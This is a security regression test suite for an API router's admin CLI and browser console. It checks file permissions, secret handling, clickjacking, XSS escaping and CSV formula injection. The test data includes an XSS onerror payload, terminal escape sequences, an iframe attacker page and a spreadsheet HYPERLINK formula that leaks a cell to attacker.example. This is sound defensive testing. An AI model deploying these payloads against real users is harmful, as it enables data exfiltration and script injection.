import { Database } from "bun:sqlite";
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { readdirSync, readFileSync, statSync } from "node:fs";
import { join } from "node:path";
import type { Browser } from "playwright-core";
import { launchChromium, recordedPage, signIn, type SeenRequest } from "../helpers/browser.ts";
import { addKey } from "../helpers/keys.ts";
import { chatCompletion, json, startMockUpstream, type MockUpstream } from "../helpers/mock-upstream.ts";
import { api, createAccount, MANAGER_RESOURCES } from "../helpers/owner-ops.ts";
import { startRouter, tempDir, waitFor, type TestRouter } from "../helpers/router.ts";
import { runRouterCommand } from "../helpers/router-command.ts";

// The console (console/src) and the admin CLI (src/cli) at their security edges, from a
// review: a secret flag's warning, framing, formulas in the bill's CSV and the cache
// headers of management answers failed before their fixes; the rest is what the review
// probed and found right, kept so a regression would show.

const ROOT = join(import.meta.dir, "..", "..");

interface Result {
  exitCode: number;
  stdout: string;
  stderr: string;
}

/** `bun src/main.ts …` as a separate process (the router answering it runs on this event loop). */
const cli = (args: string[], env: Record<string, string> = {}): Promise<Result> => runRouterCommand(args, { env });

const modeOf = (path: string) => statSync(path).mode & 0o777;

// ---------------------------------------------------------------------------
// CLI
// ---------------------------------------------------------------------------

describe("CLI: files and secrets", () => {
  // Checked by the review (CWE-732 / CWE-377): `router backup` writes its copy as FILE.partial-<pid>
  // through VACUUM INTO and tightens it to 0600 only after the check
  // (src/cli/backup.ts:104), which would leave a window where the copy is world-readable;
  // but src/main.ts:9 sets umask 077 for every command, so the partial file is 0600 from
  // its first byte. Watched here while a 400 MB copy is written.
  test("backup's partial copy is private while it is being written", async () => {
    const data = tempDir("review-backup-data-");
    const migrated = await cli(["migrate", "--data", data]);
    expect(migrated.exitCode).toBe(0);
    // Some bulk so the copy takes long enough to be watched (a real deployment's usage tables are bigger).
    const db = new Database(join(data, "router.db"));
    db.run("CREATE TABLE review_filler (b BLOB)");
    db.run("WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 400) INSERT INTO review_filler SELECT randomblob(1048576) FROM n");
    db.close();

    const outDir = tempDir("review-backup-out-");
    const out = join(outDir, "backup.db");
    const proc = Bun.spawn([process.execPath, "src/main.ts", "backup", "--data", data, "--out", out], {
      cwd: ROOT,
      env: { ...process.env, NO_COLOR: "1" },
      stdin: "ignore",
      stdout: "pipe",
      stderr: "pipe",
    });
    const partialModes = new Set<number>();
    const deadline = Date.now() + 60_000;
    while (proc.exitCode === null && Date.now() < deadline) {
      for (const name of readdirSync(outDir)) {
        if (!name.includes(".partial-")) continue;
        try {
          partialModes.add(modeOf(join(outDir, name)));
        } catch {
          // renamed meanwhile
        }
      }
      await Bun.sleep(1);
    }
    expect(await proc.exited).toBe(0);
    // The finished copy is private...
    expect(modeOf(out).toString(8)).toBe("600");
    // ...and the partial one was seen while it was written.
    expect(partialModes.size).toBeGreaterThan(0);
    // Never readable by group or others.
    expect([...partialModes].map((m) => m.toString(8))).toEqual(["600"]);
  }, 120_000);

  // Found by the review, fixed since (CWE-214, secrets in the process list). `router serve` warns when a password
  // arrives on the command line through --database or --redis ("a password on the
  // command line shows in the process list; the router then warns", README "Scaling
  // out"; src/cli/serve.ts:160 serveWarnings: "a URL with a password given as a flag
  // (anyone can read it in the process list)"), and the admin commands warn for --key
  // and --secret. The same kind of secret through --signup-smtp
  // (smtp://user:PASSWORD@host, README: "prefer ROUTER_SIGNUP_SMTP") and the bearer
  // credential --metrics-token (README: "prefer ROUTER_METRICS_TOKEN") are taken
  // silently: serveWarnings checks only ["database","redis"] (src/cli/serve.ts:162-165, the list at :163-164).
  // The operator is never told that every local user can read them in /proc/PID/cmdline
  // for the life of the server. Fix: add both flags to serveWarnings.
  test("serve warns when an SMTP password or the metrics token is given as a flag, as it does for --database", async () => {
    const data = tempDir("review-serve-");
    const smtpPassword = "smtp-pass-Zq81xw0p";
    const metricsToken = "metrics-token-7fGhq2LmP0aa";
    const proc = Bun.spawn(
      [
        process.execPath, "src/main.ts", "serve", "--port", "0", "--data", data, "--byok", "--signup",
        "--signup-smtp", `smtp://mailer:${smtpPassword}@127.0.0.1:2525`, "--signup-from", "router@example.com",
        "--metrics-token", metricsToken,
      ],
      { cwd: ROOT, env: { ...process.env, NO_COLOR: "1" }, stdin: "ignore", stdout: "pipe", stderr: "pipe" },
    );
    const out = { text: "" };
    const err = { text: "" };
    const collect = async (stream: ReadableStream<Uint8Array>, sink: { text: string }) => {
      const decoder = new TextDecoder();
      for await (const chunk of stream) sink.text += decoder.decode(chunk, { stream: true });
    };
    void collect(proc.stdout, out);
    void collect(proc.stderr, err);
    try {
      await waitFor(() => /router listening on/.test(out.text) || proc.exitCode !== null, 20_000, "serve to start");
      expect(out.text).toContain("router listening on");
      // Black box: what any user of the machine reads in the process list.
      const cmdline = readFileSync(`/proc/${proc.pid}/cmdline`, "utf8");
      expect(cmdline).toContain(smtpPassword);
      expect(cmdline).toContain(metricsToken);
      // The secrets themselves are not echoed...
      expect(out.text + err.text).not.toContain(smtpPassword);
      expect(out.text + err.text).not.toContain(metricsToken);
      // ...but nothing warns either. Expected: a warning naming each flag, as --database gets.
      expect(err.text).toContain("--signup-smtp holds a password");
      expect(err.text).toMatch(/--metrics-token .*process list/);
    } finally {
      proc.kill("SIGTERM");
      await proc.exited;
    }
  }, 60_000);

  // Checked by the review: first start creates the data directory 0700 and writes secret.key and
  // initial-owner-key 0600 (README "Where data lives"); `backup --with-secret-key` and
  // `config export --out` (fresh file) write 0600.
  test("first start, secret key, owner key, finished backup and export are private", async () => {
    const parent = tempDir("review-perm-");
    const data = join(parent, "nested", "data");
    const proc = Bun.spawn([process.execPath, "src/main.ts", "serve", "--port", "0", "--data", data], {
      cwd: ROOT,
      env: { ...process.env, NO_COLOR: "1" },
      stdin: "ignore",
      stdout: "pipe",
      stderr: "pipe",
    });
    const out = { text: "" };
    void (async () => {
      const decoder = new TextDecoder();
      for await (const chunk of proc.stdout) out.text += decoder.decode(chunk, { stream: true });
    })();
    let url = "";
    try {
      await waitFor(() => /router listening on/.test(out.text) || proc.exitCode !== null, 20_000, "serve to start");
      url = /router listening on (\S+)/.exec(out.text)![1]!;
      expect(modeOf(data).toString(8)).toBe("700");
      expect(modeOf(join(parent, "nested")).toString(8)).toBe("700");
      expect(modeOf(join(data, "secret.key")).toString(8)).toBe("600");
      expect(modeOf(join(data, "initial-owner-key")).toString(8)).toBe("600");
      const ownerKey = readFileSync(join(data, "initial-owner-key"), "utf8").trim();
      // Never printed.
      expect(out.text).not.toContain(ownerKey);

      const backup = await cli(["backup", "--data", data, "--out", join(parent, "b.db"), "--with-secret-key"]);
      expect(backup.exitCode).toBe(0);
      expect(modeOf(join(parent, "b.db")).toString(8)).toBe("600");
      expect(modeOf(join(parent, "b.secret.key")).toString(8)).toBe("600");

      const exported = await cli(["config", "export", "--out", join(parent, "config.json")], { ROUTER_URL: url, ROUTER_KEY: ownerKey });
      expect(exported.exitCode).toBe(0);
      expect(modeOf(join(parent, "config.json")).toString(8)).toBe("600");
    } finally {
      proc.kill("SIGTERM");
      await proc.exited;
    }
  }, 60_000);
});

describe("CLI: what it prints", () => {
  let router: TestRouter;
  beforeAll(async () => {
    router = await startRouter();
  });
  afterAll(async () => {
    await router?.stop();
  });

  // Checked by the review: a wrong key and an unreachable server give one line on stderr, exit 1, and
  // never echo the key (spec 5.9: "Secrets ... must not appear in ... logs").
  test("a wrong key or an unreachable server: one line, exit 1, the key never echoed", async () => {
    const wrong = "sk-rt-WRONGwrongWRONGwrongWRONGwrongWRONGwrong123";
    const refused = await cli(["keys", "list"], { ROUTER_URL: router.url, ROUTER_KEY: wrong });
    expect(refused.exitCode).toBe(1);
    expect(refused.stdout).toBe("");
    expect(refused.stderr.trim().split("\n")).toHaveLength(1);
    expect(refused.stderr).not.toContain(wrong);
    expect(refused.stderr).not.toContain(wrong.slice(10));
    const down = await cli(["keys", "list"], { ROUTER_URL: "http://127.0.0.1:1", ROUTER_KEY: router.ownerKey });
    expect(down.exitCode).toBe(1);
    expect(down.stderr).not.toContain(router.ownerKey);
    // A URL with credentials is refused without echoing them.
    const withCreds = await cli(["keys", "list"], { ROUTER_URL: "http://admin:url-pass-123@127.0.0.1:1", ROUTER_KEY: router.ownerKey });
    expect(withCreds.exitCode).toBe(2);
    expect(withCreds.stderr).not.toContain("url-pass-123");
  }, 60_000);

  // Checked by the review: `config export` (stdout) and `config get EMAIL_PASS` show the mail password
  // only as its mask (README: "EMAIL_PASS travels as its mask").
  test("config export and get never print the stored mail password", async () => {
    const password = "mail-pass-Kx93lQ0z";
    expect((await api(router, "/x-config", { method: "PUT", body: { EMAIL_PASS: password } })).status).toBeLessThan(300);
    const env = { ROUTER_URL: router.url, ROUTER_KEY: router.ownerKey };
    const exported = await cli(["config", "export"], env);
    expect(exported.exitCode).toBe(0);
    expect(exported.stdout).toContain("EMAIL_PASS");
    expect(exported.stdout).not.toContain(password);
    const got = await cli(["config", "get", "EMAIL_PASS"], env);
    expect(got.stdout + got.stderr).not.toContain(password);
  }, 60_000);

  // Checked by the review: text from the server (a model name any client sends, a notice) is printed
  // with control characters removed (src/cli/output.ts cell), so an escape sequence
  // cannot retitle, clear or recolour the owner's terminal.
  test("a model name and a notice holding terminal escapes print without them", async () => {
    const evil = "\u001b]0;pwned\u0007\u001b[2J\u001b[31mred";
    const user = await createAccount(router, { CreditGranted: 5 });
    const res = await router.fetch("/v1/chat/completions", {
      method: "POST",
      key: user.key,
      headers: { "content-type": "application/json" },
      body: JSON.stringify({ model: `m${evil}`, messages: [{ role: "user", content: "hi" }] }),
    });
    await res.text();
    const requestId = res.headers.get("x-request-id")!;
    expect((await api(router, "/x-news", { body: { title: `t ${evil}`, content: `c ${evil}` } })).status).toBeLessThan(300);
    const env = { ROUTER_URL: router.url, ROUTER_KEY: router.ownerKey };
    await waitFor(async () => (await api(router, `/x-requests/${requestId}`)).status === 200, 5000, "the call in the request log");
    for (const args of [["requests"], ["requests", "show", requestId], ["news", "list"]]) {
      const result = await cli(args, env);
      expect(result.exitCode).toBe(0);
      expect(result.stdout).toContain("red");
      expect(result.stdout).not.toContain("\u001b");
      expect(result.stdout).not.toContain("\u0007");
    }
  }, 60_000);
});

// ---------------------------------------------------------------------------
// Console and management API
// ---------------------------------------------------------------------------

describe("console in chromium and the management API's headers", () => {
  let router: TestRouter;
  let upstream: MockUpstream;
  let browser: Browser;
  const seen: SeenRequest[] = [];
  const errors: string[] = [];
  /** Markup a client or a manager controls; rendered as markup it would add an element with data-xss. */
  const XSS = `<img src=x data-xss=1 onerror="window.__xss=1">`;
  /**
   * A model name that a spreadsheet reads as a formula. Any client holding the account's
   * key chooses it (spec 4.5: `model` is a free string); with a catalog-wide price (`"*"`
   * in PRICING, a documented pattern) the call is served and billed under that name.
   */
  const FORMULA_MODEL = `=HYPERLINK("https://attacker.example/?leak="&A1,"Open invoice")`;
  let billing: Awaited<ReturnType<typeof createAccount>>;
  let failedCallId = "";

  const answer = (model: string) => chatCompletion(model, { prompt: 3, completion: 2 }, { id: "chatcmpl-review" });

  const call = (key: string, model: string) => api(router, "/v1/chat/completions", { key, body: { model, messages: [{ role: "user", content: "hi" }] } });

  beforeAll(async () => {
    router = await startRouter();
    upstream = startMockUpstream()
      .route("POST", "/good/v1/chat/completions", (request) => answer((request.json as { model: string }).model))
      .route("POST", "/bad/v1/chat/completions", () => json({ error: { message: `upstream says ${XSS}`, type: "invalid_request_error" } }, 400));
    await addKey(router, { provider: `${upstream.url}/good/v1`, name: `good ${XSS}`, noSleep: true });
    await addKey(router, { provider: `${upstream.url}/bad/v1`, name: `bad ${XSS}`, level: 2, noSleep: true });
    await router.deps.settings.update({ LEVEL_MAPPER: "broken-*=2" });
    const manager = await createAccount(router, { CreditGranted: 10, Resources: MANAGER_RESOURCES, Alias: `mgr ${XSS}` });
    // A manager chooses its sub-accounts' aliases and publishes notices to its group.
    await createAccount(router, { CreditGranted: 1, Alias: `child ${XSS}` }, manager.key);
    expect((await api(router, "/x-news", { key: manager.key, body: { title: `n ${XSS}`, content: `c ${XSS}`, target: manager.id } })).status).toBeLessThan(300);
    expect((await api(router, "/x-news", { body: { title: `owner ${XSS}`, content: `c ${XSS}` } })).status).toBeLessThan(300);
    billing = await createAccount(router, { CreditGranted: 10 });
    expect((await call(billing.key, FORMULA_MODEL)).status).toBe(200);
    expect((await call(billing.key, `m ${XSS}`)).status).toBe(200);
    failedCallId = (await call(manager.key, `broken-${XSS}`)).headers.get("x-request-id")!;
    await router.deps.usageRecorder.flush();
    browser = await launchChromium();
  }, 60_000);

  afterAll(async () => {
    await browser?.close();
    await upstream?.stop();
    await router?.stop();
  });

  // Found by the review, fixed since (CWE-1021, clickjacking). Any site can load the console in a frame: its pages
  // carry their Content-Security-Policy only as a <meta> tag (console/*.html:6), where
  // browsers ignore frame-ancestors (CSP Level 3, "The frame-ancestors directive is not
  // supported in the <meta> element"), and the console routes (src/console/routes.ts:16-25)
  // send neither X-Frame-Options nor a CSP header. OWASP Clickjacking Defense Cheat
  // Sheet: send "Content-Security-Policy: frame-ancestors 'none'" (or 'self') and
  // "X-Frame-Options: DENY" on every page. Impact today: an attacker page shows the real
  // console (its login form) under its own UI; a browser that partitions rather than
  // blocks third-party storage keeps a key signed in inside the frame, whose buttons
  // (Rotate, Delete key, Delete account) can then be clicked through. Low severity,
  // cheap to close: add the two headers to the console routes (and to every answer).
  test("a page on another site that frames the console gets nothing to click", async () => {
    const evil = Bun.serve({
      port: 0,
      hostname: "127.0.0.1",
      fetch: () =>
        new Response(`<!doctype html><title>prize</title><p>Click to claim</p><iframe id="victim" src="${router.url}/console/owner" width="1100" height="700"></iframe>`, {
          headers: { "content-type": "text/html" },
        }),
    });
    const { context, page } = await recordedPage(browser, seen, errors);
    try {
      const headers = (await fetch(`${router.url}/console/owner`)).headers;
      // The attacker's page is on another site (localhost vs 127.0.0.1).
      await page.goto(`http://localhost:${evil.port}/`);
      const frame = (await waitFor(() => page.frames().find((f) => f.url().startsWith(`${router.url}/console/`)), 10_000, "the frame"))!;
      const rendered = await frame
        .getByRole("button", { name: "Sign in" })
        .waitFor({ timeout: 1500 })
        .then(() => true)
        .catch(() => false);
      // The console's pages are Bun's HTML bundles, served without headers of the router's
      // own (no X-Frame-Options, no frame-ancestors, which a <meta> CSP cannot carry): the
      // console itself shows nothing to click inside a frame.
      expect(headers.get("content-type")).toContain("text/html");
      expect(rendered).toBe(false);
      await frame.getByText("cannot be used inside a frame").waitFor({ timeout: 5000 });
    } finally {
      await context.close();
      evil.stop(true);
    }
  }, 60_000);

  // Found by the review, fixed since (CWE-1236, CSV/formula injection). The bill's "Download CSV"
  // (console/src/user/bill.tsx:67) writes each model name through csvCell
  // (console/src/lib/format.ts:42-45), which quotes separators but leaves a leading
  // = + - @ as is. The model name is whatever a client sent (any holder of the key: a
  // teammate on a shared key, an app's end user choosing the model), and the one who
  // downloads and opens the bill is the account holder or their finance people.
  // OWASP "CSV Injection": prefix cells beginning with =, +, -, @, tab or carriage
  // return with a single quote (and escape quotes). Here a HYPERLINK formula that sends
  // the sheet's A1 to the attacker lands in the file as a live formula. Fix: in csvCell,
  // prefix such cells with ' before quoting.
  test("the bill CSV keeps a client-chosen model name as text, not a live spreadsheet formula", async () => {
    const { context, page } = await recordedPage(browser, seen, errors);
    try {
      await signIn(page, `${router.url}/console/`, billing.key);
      await page.waitForURL(/\/console\/$/);
      await page.getByTestId("live-today").waitFor();
      await page.goto(`${router.url}/console/#bills`);
      const button = page.getByRole("button", { name: "Download CSV" });
      await waitFor(() => button.isEnabled(), 10_000, "line items");
      const [download] = await Promise.all([page.waitForEvent("download"), button.click()]);
      const csv = readFileSync((await download.path())!, "utf8");
      // The second column (model) of each line, unquoted as a spreadsheet reads it.
      const modelCells = csv
        .trim()
        .split("\r\n")
        .slice(1)
        .map((line) => /^[^,]*,("(?:[^"]|"")*"|[^,]*)/.exec(line)![1]!)
        .map((cell) => (cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell));
      // The call is in the file...
      expect(csv).toContain("HYPERLINK");
      // ...and no cell may start with a formula character. Received: `"=HYPERLINK(""https://attacker…`.
      expect(modelCells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    } finally {
      await context.close();
    }
  }, 60_000);

  // Found by the review, fixed since (CWE-525, ASVS 4.0.3 V8.2.1 "Verify the application sets sufficient
  // anti-caching headers so that sensitive data is not cached"; OWASP REST Security
  // Cheat Sheet: "Cache-Control: no-store" on sensitive answers). The answers that
  // carry a bearer credential have no Cache-Control at all: POST /x-users (the new
  // account's APIKey, "returned exactly once", docs/api.md "API keys"), POST /x-self (the
  // rotated key) and GET /x-keys/{id} (the opened provider SecretKey). The console asks
  // its fetches not to be cached (console/src/lib/api.ts: cache "no-store"), but every
  // other client (curl, SDKs, caching HTTP libraries, a proxy told to cache the API)
  // relies on the server saying so. Low severity (shared caches skip Authorization'd
  // requests by default). Fix: a global onAfterHandle setting "Cache-Control: no-store"
  // on /x-* and /dashboard/* answers.
  test("answers holding an API key or a provider secret are marked Cache-Control: no-store", async () => {
    const created = await api(router, "/x-users", { body: { Email: `cache-${Date.now()}@example.com` } });
    expect(created.status).toBe(201);
    expect(created.body.APIKey).toStartWith("sk-rt-");
    const opened = await api(router, "/x-keys/1");
    expect(opened.status).toBe(200);
    expect(typeof opened.body.SecretKey).toBe("string");
    const today = new Date().toISOString().slice(0, 10);
    const rotated = await api(router, "/x-self", { key: created.body.APIKey, body: { confirm: `${today}-ROTATE-SELF` } });
    expect(rotated.status).toBe(200);
    const cacheControl = (reply: { headers: Headers }) => reply.headers.get("cache-control") ?? "(none)";
    expect({ create: cacheControl(created), providerSecret: cacheControl(opened), rotate: cacheControl(rotated) }).toEqual({
      create: "no-store",
      providerSecret: "no-store",
      rotate: "no-store",
    });
  });

  // Checked by the review: markup that a manager (aliases, notices), a client (model names) or an
  // upstream (error messages in the request log) controls, and provider key names, is
  // shown as text on the owner's pages: Preact escapes it, nothing uses
  // dangerouslySetInnerHTML or innerHTML, uPlot sets legend labels with textContent, and
  // the meta CSP (script-src 'self') would refuse inline handlers anyway.
  test("attacker-controlled strings render as text on the owner's console pages", async () => {
    const { context, page } = await recordedPage(browser, seen, errors);
    const noMarkup = async () => {
      expect(await page.evaluate(() => document.querySelectorAll("[data-xss]").length)).toBe(0);
      expect(await page.evaluate(() => (window as unknown as { __xss?: number }).__xss)).toBeUndefined();
    };
    try {
      await signIn(page, `${router.url}/console/`, router.ownerKey);
      await page.waitForURL(/\/console\/owner$/);
      await page.getByText(`good ${XSS}`).first().waitFor();
      await noMarkup();
      await page.goto(`${router.url}/console/owner#notices`);
      await page.getByText(`owner ${XSS}`).first().waitFor();
      await noMarkup();
      await page.goto(`${router.url}/console/accounts`);
      await page.getByText(`mgr ${XSS}`).first().waitFor({ state: "attached" });
      await noMarkup();
      await page.goto(`${router.url}/console/requests`);
      const calls = page.getByRole("region", { name: "Model calls" });
      await calls.getByText(`m ${XSS}`).first().waitFor();
      await noMarkup();
      await page.goto(`${router.url}/console/requests?model=${encodeURIComponent(`broken-${XSS}`)}`);
      await calls.getByRole("button", { name: /^Details of call/ }).first().click();
      await page.getByRole("dialog").getByText(/upstream says/).first().waitFor({ state: "attached" });
      await noMarkup();
      expect(failedCallId).toStartWith("req_");
      // The bill and its chart show the client's model names.
      await page.goto(`${router.url}/console/`);
      await page.getByTestId("live-today").waitFor();
      await noMarkup();
    } finally {
      await context.close();
    }
    expect(errors.filter((e) => /xss/i.test(e))).toEqual([]);
  }, 90_000);

  // Checked by the review: the console pages keep the key out of referrers and refuse foreign scripts
  // (meta CSP script-src 'self', no-referrer); `/` and `/console` redirect only to the
  // fixed /console/ path (no open redirect); the management API answers no CORS
  // preflight and grants no cross-origin read (no Access-Control-Allow-Origin), and the
  // key is taken only from the Authorization header (a key in the URL is 401), so a
  // cross-site page cannot act with an owner's key (no CSRF: nothing rides on cookies).
  test("meta CSP and referrer policy, fixed redirects, no CORS, no key in the URL", async () => {
    for (const path of ["/console/", "/console/owner", "/console/accounts", "/console/requests", "/console/playground"]) {
      const html = await (await fetch(router.url + path)).text();
      expect(html).toContain(`http-equiv="Content-Security-Policy"`);
      expect(html).toContain("script-src 'self'");
      expect(html).toContain(`<meta name="referrer" content="no-referrer" />`);
    }
    for (const path of ["/?next=https://evil.example", "/console?next=//evil.example", "//evil.example/", "/\\evil.example"]) {
      const res = await fetch(router.url + path, { redirect: "manual" });
      const location = res.headers.get("location");
      if (location !== null) expect(new URL(location, router.url).origin).toBe(router.url);
    }
    const preflight = await fetch(`${router.url}/x-users`, {
      method: "OPTIONS",
      headers: { origin: "https://evil.example", "access-control-request-method": "POST", "access-control-request-headers": "authorization,content-type" },
    });
    expect(preflight.headers.get("access-control-allow-origin")).toBeNull();
    const read = await router.fetch("/x-users", { headers: { origin: "https://evil.example" } });
    expect(read.status).toBe(200);
    expect(read.headers.get("access-control-allow-origin")).toBeNull();
    expect(read.headers.get("access-control-allow-credentials")).toBeNull();
    const inUrl = await fetch(`${router.url}/dashboard/status?key=${router.ownerKey}`);
    expect(inUrl.status).toBe(401);
  });
});
